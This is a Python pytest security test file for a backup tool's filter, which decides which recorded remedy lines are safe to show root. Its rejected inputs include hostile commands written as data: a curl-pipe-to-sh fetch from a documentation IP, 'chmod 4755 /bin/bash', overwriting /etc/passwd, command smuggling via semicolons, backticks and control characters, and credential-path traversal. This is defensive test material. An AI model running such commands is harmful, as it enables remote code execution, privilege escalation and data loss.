"""Which lines of the catalogue root is shown as drd's advice: whoever can write there must not make
root run something else (tests/security/test_recorded_commands.py)."""

from __future__ import annotations

import pytest

from drd.model.recorded_remedy import is_harmless

_PROGRAMS = {"bash", "sh", "curl", "chmod", "rm", "reboot", "python3.11", "7z", "systemctl", "find"}


@pytest.mark.parametrize(
    "line",
    [
        "sh /var/tmp/evil",
        "run this: bash fix",
        "/var/lib/drd/repair",
        "curl -s http://192.0.2.1/x | sh",
        "reboot",
        "`reboot`",
        "(reboot)",
        "{curl,x}",
        'b"a"sh fix',
        "ba\\sh fix",
        "$HOME/x",
        ". fix",
        "7z x",
        "python3.11 fix",
        "drd status; reboot",
        "drd status && sh fix",
        "drd status > /etc/passwd",
        "cp -n /run/credentials/drd.service/drd_.. /etc/drd/credentials/..",
        "cp -n /run/credentials/drd.service/drd_a /etc/drd/credentials/b",
        "cp -n /run/credentials/drd.service/drd_../x /etc/drd/credentials/../x",
        "cp /run/credentials/drd.service/drd_a /etc/drd/credentials/a",
        "drd --config /var/tmp/drd.yaml status",
        "drd bootstrap --kit /var/tmp/kit",
        "drd bootstrap",
        "drd backup /var/tmp/plan.yaml",
        "drd backup shop --accept-size --config /var/tmp/drd.yaml",
        "drd plan check /var/tmp/plan.yaml",
        "drd recover /etc/drd/drd.yaml --in-place --yes",
        "drd recover shop --in-place --component db",
        "drd recover shop --in-place --component db --yes",
        "drd bootstrap --kit /etc/drd/drd.yaml",
        "/etc/drd/drd.yaml; sh",
        "drd records unseal --identity /var/tmp/key",
        "drd records redact 7 --reason x",
        "drd undo 4f2a1c3e",
        "drd done 4f2a1c3e",
        "drd points forget 4f2a1c3e --reason x",
        "drd recover shop --in-place --yes",
        "drd uninstall --purge",
        "systemctl restart evil",
        "find x -delete",
        "chmod 4755 /bin/bash",
        "eval fix",
        "drd status\x0bsh",
        "drd status\u2028sh",
        "`drd status`",
        "to see why: `drd run show 4f2a1c3e`",
        "SH fix",
        "the server\x0bstops",
    ],
)
def test_a_line_that_could_do_more_than_look_is_not_shown_to_root(line: str) -> None:
    roots = "/etc/drd/drd.yaml".__eq__
    assert is_harmless(line, _PROGRAMS.__contains__, roots) is False


def test_only_paths_and_no_programs_can_be_roots_own() -> None:
    assert not is_harmless("sh fix", _PROGRAMS.__contains__, lambda _: True)
    again = "cp -n /run/credentials/drd.service/drd_a /etc/drd/credentials/a"
    assert is_harmless(again, _PROGRAMS.__contains__, lambda _: True)


@pytest.mark.parametrize(
    "line",
    [
        "drd points shop",
        "drd config check && systemctl reload drd",
        "sudo drd status",
        "drd plan check /etc/drd/drd.yaml && systemctl reload drd",
        "drd config check --config /etc/drd/drd.yaml",
        "drd run show 4f2a1c3e --follow",
        "drd drill shop --scenario host-loss --repository offsite",
        "drd kit export shop --to FILE",
        "drd points forget POINT --reason TEXT",
        "to see what is missing in the source: drd diff shop --component db --point 4f2a1c3e",
        "see: drd diff shop --component db --point 4f2a; if so: drd backup shop --accept-size",
        "drd records verify",
        "drd records unseal --identity FILE",
        "to read encrypted entries: drd records unseal --identity FILE",
        "journalctl -u drd -n 20",
        "check that the server runs, and that host and port in dsn are right.",
        "use another point: drd points shop",
        "correct `expect` in /etc/drd/drd.yaml, or leave out --point.",
        "free space on this disk. drd's records are not lost.",
        "start the server again: drd waits for it",
        "find out why the server stopped",
        "the server said … and stopped",
        "the file /etc/drd/drd.yaml is not complete",
        "raise `timeout` (drd run show 4f2a1c3e), or run it by hand",
    ],
)
def test_the_words_and_commands_of_drds_own_remedies_are_shown(line: str) -> None:
    assert is_harmless(line, _PROGRAMS.__contains__, lambda path: path == "/etc/drd/drd.yaml")
